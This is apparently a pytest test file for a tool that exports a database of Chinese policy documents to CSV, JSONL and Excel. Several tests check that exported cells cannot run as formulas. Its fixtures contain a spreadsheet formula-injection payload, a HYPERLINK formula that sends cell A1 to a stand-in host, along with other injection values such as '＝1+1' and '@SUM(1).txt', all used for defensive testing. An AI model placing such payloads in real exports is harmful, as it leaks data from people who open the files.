"""What export writes: read back by other programs' eyes (csv, json, openpyxl), hostile texts included."""

import csv
import json
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given as for_all
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from published import given, put
from stand_in import PLAN, found_in

from extract import export as module
from extract.export import CELL_LIMIT, CUT_MARK, ExportError, _fitted, disarmed, export
from extract.publish import PublishError, open_database, publish
from extract.schema import TABLES


@pytest.fixture(scope="module")
def database(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("export") / "policies.db"
    with open_database(path) as db:
        put(db, "plan.txt", PLAN)
        put(db, "news.txt", "2030年修路30个。")
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_targets_as_csv_have_title_and_agencies(database, tmp_path):
    out = tmp_path / "targets.csv"
    told = []
    assert export(database, None, "csv", out, lambda at, total: told.append((at, total))) == 3
    assert told == [(0, 3)]
    assert out.read_bytes().startswith(b"\xef\xbb\xbfdocument_title,")
    rows = read_csv(out)
    wanted = ("document_title", "agencies", "indicator", "op", "value", "deadline")
    assert [tuple(row[name] for name in wanted) for row in rows] == [
        ("2030年修路30个。", "", "修路", "=", "30", "2030-12-31"),
        ("一、绿色发展", "青岛市林业局", "森林覆盖率达到", "=", "35", "2025-12-31"),
        ("一、绿色发展", "青岛市林业局、青岛市城管局", "新增公园", "=", "20", "2024-12-31"),
    ]


def test_json_lines_lose_nothing(database, tmp_path):
    out = tmp_path / "documents.jsonl"
    assert export(database, "documents", "jsonl", out) == 2
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [(row["source"], row["plan_id"]) for row in rows] == [("plan.txt", None), ("news.txt", None)]
    assert rows[0]["text"] == PLAN
    assert "绿色" in out.read_text(encoding="utf-8")


@pytest.mark.parametrize("table", TABLES)
@pytest.mark.parametrize("format", ["csv", "jsonl", "xlsx"])
def test_every_table_can_be_exported(database, tmp_path, table, format):
    with open_database(database) as db:
        rows, columns = db.table(table).count, set(db.table(table).columns_dict)
    out = tmp_path / f"{table}.{format}"
    assert export(database, table, format, out) == rows
    if format == "csv":
        assert columns <= set(csv.DictReader(out.open(encoding="utf-8-sig")).fieldnames or ())


def test_responsibilities_say_who_and_what(database, tmp_path):
    export(database, "responsibilities", "csv", tmp_path / "r.csv")
    row = read_csv(tmp_path / "r.csv")[0]
    assert (row["agency"], row["name"], row["document_title"]) == ("青岛市林业局", "市林业局", "一、绿色发展")
    assert row["task"].startswith("到2025年，森林覆盖率达到35%")


def test_a_workbook_has_a_sheet_for_each_table(database, tmp_path):
    out = tmp_path / "all.xlsx"
    assert export(database, None, "xlsx", out) > 20
    book = openpyxl.load_workbook(out)
    assert tuple(book.sheetnames) == TABLES
    sheet = book["targets"]
    header, first = (tuple(cell.value for cell in row) for row in sheet.iter_rows(max_row=2))
    row = dict(zip(header, first, strict=True))
    assert (row["value"], row["deadline"], row["deadline_year"], row["value_max"]) == (30, "2030-12-31", 2030, None)
    assert sheet.freeze_panes == "A2"
    assert all(8 < sheet.column_dimensions[name].width <= module.WIDEST_COLUMN + 1 for name in ("A", "B", "C"))


HOSTILE = '=HYPERLINK("http://a.example/?"&A1,"政策")'


@pytest.fixture
def hostile(tmp_path) -> Path:
    """A database of one document that tries to be run, and is too long for a cell."""
    path = tmp_path / "hostile.db"
    text = f"{HOSTILE}\x0b_x0041_\r\n,\"'" + "政" * (CELL_LIMIT + 1)
    extraction = found_in(text)
    about = replace(extraction.about, title=HOSTILE, issuer="＝1+1", document_number="-5", place="http://a.example/")
    with open_database(path) as db:
        publish(db, given("@SUM(1).txt", text), replace(extraction, about=about))
    return path


def test_no_cell_of_a_csv_file_is_a_formula(hostile, tmp_path):
    export(hostile, "documents", "csv", tmp_path / "d.csv")
    row = read_csv(tmp_path / "d.csv")[0]
    assert row["title"] == "'" + HOSTILE
    assert (row["issuer"], row["document_number"], row["source"]) == ("'＝1+1", "'-5", "'@SUM(1).txt")
    assert row["text"].endswith(CUT_MARK) and len(row["text"]) == CELL_LIMIT + 1  # with the apostrophe
    assert "\x0b" not in row["text"]


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(hostile, tmp_path):
    export(hostile, "documents", "xlsx", tmp_path / "d.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "d.xlsx")["documents"]
    cells = {sheet.cell(1, n).value: sheet.cell(2, n) for n in range(1, sheet.max_column + 1)}
    assert all(cell.data_type in "sn" and cell.hyperlink is None for cell in cells.values())
    assert cells["title"].value == HOSTILE
    assert cells["document_number"].value == "-5"
    text = unescape(cells["text"].value)
    assert text.startswith(f"{HOSTILE}_x0041_\n,")
    assert len(text) == CELL_LIMIT and text.endswith(CUT_MARK)


def test_a_negative_number_stays_a_number(tmp_path):
    with open_database(tmp_path / "p.db") as db:
        extraction = found_in(PLAN)
        colder = replace(extraction.quantities[0], value=-5.5)
        publish(db, given("plan.txt", PLAN), replace(extraction, quantities=(colder,)))
    export(tmp_path / "p.db", "quantities", "csv", tmp_path / "q.csv")
    assert read_csv(tmp_path / "q.csv")[0]["value"] == "-5.5"
    export(tmp_path / "p.db", "quantities", "xlsx", tmp_path / "q.xlsx")
    rows = openpyxl.load_workbook(tmp_path / "q.xlsx")["quantities"].iter_rows(min_row=2, values_only=True)
    assert -5.5 in next(rows)


@for_all(st.text(alphabet=st.characters() | st.sampled_from("=+-@\t\r\n＝\x00\U00020000政"), max_size=20))
def test_any_text_is_safe_in_a_cell(text):
    cell = disarmed(_fitted(text * 4000))
    assert isinstance(cell, str)
    assert len(cell) < 2 or not cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert len(cell.removeprefix("'").encode("utf-16-le")) <= 2 * CELL_LIMIT


def test_wrong_wishes_are_refused(database, tmp_path):
    with pytest.raises(ExportError, match="no table 'sqlite_master'; there are documents, targets"):
        export(database, "sqlite_master", "csv", tmp_path / "x.csv")
    with pytest.raises(ExportError, match="the database itself"):
        export(database, None, "csv", database)
    with pytest.raises(PublishError, match="no such database"):
        export(tmp_path / "none.db", None, "csv", tmp_path / "x.csv")
    with pytest.raises(PublishError, match="no such database"):
        export(tmp_path / "none.db", None, "csv", database)
    assert not (tmp_path / "x.csv").exists()
    for format in ("csv", "jsonl", "xlsx"):
        with pytest.raises(ExportError, match="nowhere"):
            export(database, None, format, tmp_path / "nowhere" / "x")


def test_more_rows_than_a_sheet_holds_are_refused(database, tmp_path, monkeypatch):
    monkeypatch.setattr(module, "SHEET_ROWS", 2)
    with pytest.raises(ExportError, match="targets has 3 rows, a sheet holds 2"):
        export(database, "targets", "xlsx", tmp_path / "x.xlsx")
    assert not (tmp_path / "x.xlsx").exists()
    assert export(database, "targets", "csv", tmp_path / "x.csv") == 3


@pytest.mark.parametrize("format", ["csv", "jsonl", "xlsx"])
def test_a_damaged_database_is_said(tmp_path, format):
    path = tmp_path / "p.db"
    with open_database(path) as db:
        for n in range(30):
            put(db, f"{n}.txt", f"{n}{PLAN}")
    damaged = bytearray(path.read_bytes())
    damaged[40960:] = b"\xff" * len(damaged[40960:])
    path.write_bytes(damaged)
    with pytest.raises((ExportError, PublishError), match=r"p\.db: .*malformed"):
        export(path, None, format, tmp_path / "x")
